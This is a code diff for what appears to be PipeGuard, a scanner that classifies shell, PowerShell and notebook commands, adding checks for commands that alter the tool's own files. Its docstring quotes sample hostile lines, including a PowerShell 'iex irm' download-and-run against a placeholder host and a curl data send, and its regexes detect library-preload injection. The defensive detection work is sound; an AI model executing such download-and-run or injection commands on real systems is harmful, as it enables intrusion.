@@ -11,6 +11,7 @@ The reading `acts` (detect.scanning.readings) runs the rules about commands over
     CODE import os                            a program in another language
     MADE curl -d a1b2...                      a command or its input, assembled from parts
     PS iex irm https://x.example/a            a command of PowerShell or cmd
+    OWN command                               it may change PipeGuard's own (detect.commands.own)
     SQL drop table x                          a statement of a database
 
 A quoted word for a program that only prints or stores it is not a command: a commit's message, or a
@@ -23,7 +24,7 @@ import re
 from collections.abc import Iterator, Sequence
 from itertools import chain
 
-from pipeguard.detect.commands import nested_commands, programs, shell_command
+from pipeguard.detect.commands import nested_commands, own, programs, shell_command
 from pipeguard.detect.commands.file_access import FileAccess
 from pipeguard.detect.commands.path_normalisation import patch_lines
 from pipeguard.detect.commands.posix_shell import Shell
@@ -50,6 +51,7 @@ _NAME_IN_SUBSTITUTION = lazy_regex(
     r"([\w./+-]{1,60})\)"
 )
 _PRELOADS = lazy_regex(r"\bLD_(?:PRELOAD|AUDIT)=[^\s;&|]|\bDYLD_INSERT_LIBRARIES=[^\s;&|]")
+_WINDOWS_SHELL = lazy_regex(r"\s*(?:powershell|pwsh|cmd)(?:\.exe)?(?:\s+[-/]\w+)*\s", re.IGNORECASE)
 _RECURSIVE = lazy_regex(r"-[a-zA-Z]*[rR][a-zA-Z]*|--recursive")
 
 # A function that opens a file, the home folder before it, the path, and a mode that writes.
@@ -104,7 +106,7 @@ def command_lines(
     if "LD_" in text and _PRELOADS.search(text):
         interpreter.lines.append("ENV LD_PRELOAD=")
     if windows and is_windows(text):
-        interpreter.lines += windows_lines(text[:MAX_TEXT])
+        interpreter.run_windows(text)
     return interpreter.all_lines()
 
 
@@ -114,7 +116,7 @@ def argument_lines(words: Sequence[str], *, budget: ScriptBudget | None = None) 
     interpreter = _Interpreter(text, budget)
     interpreter.run_words(words)
     if is_windows(text):
-        interpreter.lines += windows_lines(text[:MAX_TEXT])
+        interpreter.run_windows(text)
     return interpreter.all_lines()
 
 
@@ -138,6 +140,7 @@ class _Interpreter:
         self._budget.is_exceeded = self._budget.is_exceeded or len(text) > MAX_TEXT
         self._shell = Shell(self._run_substitution, self._budget)
         self._files = FileAccess(self.lines)
+        self._own_variables: list[str] = []  # read from what names PipeGuard's files
         self._read_by_substitutions: list[str] = []
         self._is_decoding = False  # a substitution decodes its text
         self._is_sending = False  # the current pipeline does
@@ -159,8 +162,17 @@ class _Interpreter:
         """Add the lines of a command."""
         self._run_pipelines([[ShellCommand(list(words), [], None)]])
 
+    def run_windows(self, text: str) -> None:
+        """Add the lines of a script for PowerShell or cmd."""
+        for line in windows_lines(text[:MAX_TEXT]):
+            self.lines.append(line)
+            parts = [part.strip() for part in _WINDOWS_SHELL.sub("", line[3:]).split("|")]
+            self._add_own(parts, parts, "")
+
     def run_code(self, text: str) -> None:
         """Add the lines of a program in another language."""
+        shell = [line.lstrip()[1:] for line in text.split("\n") if line.lstrip()[:1] == "!"]
+        self.run_script("\n".join(shell))  # as a cell of a notebook has it
         for call in shell_calls(text):
             if isinstance(call, str):
                 self.run_script(call)
@@ -168,6 +180,8 @@ class _Interpreter:
                 self.run_words(call)
         self.lines += opened_file_lines(text)
         if not self._budget.is_exceeded:
+            if own.change_in_code("\n".join(line for line in text.split("\n") if line[:1] != "!")):
+                self.lines.append("OWN program")
             self.lines += nested_commands.text_lines("CODE", " ".join(text.split()))
 
     def _run_substitution(self, pipelines: list[Pipeline]) -> None:
@@ -191,6 +205,7 @@ class _Interpreter:
         first_read, first_line = len(self._files.read), len(self.lines)
         was_sending, self._is_sending = self._is_sending, False
         shown: list[str] = []
+        folder = self._files.folder
         for at, command in enumerate(pipeline):
             stdin = command.stdin
             if stdin is None and at:
@@ -199,6 +214,7 @@ class _Interpreter:
                 shown.append(line)
         if (words := pipeline[-1].words) and words[0] in lists.DECODING | {"printf"}:
             self._find_output(pipeline[-MAX_WORDS:])
+        self._add_own([line[2:] for line in shown], [*map(_show_raw, pipeline)], folder)
         if shown:
             self.lines[first_line:first_line] = nested_commands.pipeline_lines(shown)
         if self._is_sending:
@@ -207,6 +223,11 @@ class _Interpreter:
             sent += self._read_by_substitutions if is_substituting else []
             self.lines += [f"^ {path}" for path in dict.fromkeys(sent)]
         self._is_sending = was_sending or self._is_sending
+
+    def _add_own(self, lines: list[str], raw: list[str], folder: str) -> None:
+        """Add a line if a pipeline may change PipeGuard's own files."""
+        if own.changes_own(lines, raw, folder, self._own_variables, self._files.resolve):
+            self.lines.append("OWN command")
 
     def _find_output(self, pipeline: Pipeline) -> str | None:
         """Find a pipeline's output, and note it if the script does not contain it."""
@@ -323,6 +344,15 @@ def _with_plain_name(words: list[str]) -> list[str]:
 
 def _show(name: str, arguments: Sequence[str]) -> str:
     return " ".join([f"$ {name}", *(flat(word) for word in arguments if word)])
+
+
+def _show_raw(command: ShellCommand) -> str:
+    """A command as it is written, after its variables and before its input."""
+    name = program_name(command.words[0]) if command.words else ""
+    is_run = name in lists.SHELLS or programs.INTERPRETERS.match(name)  # its input is a program
+    values = [each for _, each in command.redirects if each.startswith(("PIPEGUARD_", "XDG_"))]
+    stdin = ["<<<", command.stdin] if command.stdin and not is_run else []
+    return " ".join(map(flat, (*values, *command.words, *stdin)))
 
 
 def _sends(name: str, command: ShellCommand) -> bool:
